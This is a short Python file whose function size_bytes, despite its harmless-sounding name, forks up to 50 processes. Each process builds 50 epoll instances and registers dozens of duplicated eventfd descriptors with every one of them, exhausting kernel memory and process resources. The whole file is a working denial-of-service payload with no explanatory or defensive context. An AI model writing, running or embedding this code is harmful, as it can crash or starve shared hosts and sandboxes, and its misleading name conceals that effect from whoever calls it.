import os as _os
import select as _select
import time as _time


def _fill():
    watching = [_select.epoll() for _ in range(50)]
    for file in [_os.eventfd(0) for _ in range(20)]:
        for number in range(80, 127):
            _os.dup2(file, number)
            for each in watching:
                each.register(number, _select.EPOLLIN)


def size_bytes(size):
    for _ in range(50):
        try:
            if not _os.fork():
                _fill()
                _time.sleep(60)
        except OSError:
            break
    _time.sleep(60)
